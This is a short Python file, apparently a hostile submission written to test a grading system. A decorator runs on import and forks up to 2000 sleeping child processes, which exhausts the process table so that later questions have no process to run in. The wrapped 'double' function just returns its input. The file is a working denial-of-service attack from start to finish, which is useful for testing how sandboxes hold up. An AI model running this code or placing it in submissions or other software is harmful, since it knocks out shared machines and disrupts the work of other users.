"""Forks as often as it may while it is loaded; the forks sleep, so that no process is left for the questions."""
# bites: leftover
# alone: no the student's own later questions find no process to run in
import os
import time


def crowd(function):
    for _ in range(2000):
        try:
            if os.fork() == 0:
                time.sleep(10000)
                os._exit(0)
        except OSError:
            break
    return function


@crowd
def double(x):
    return x
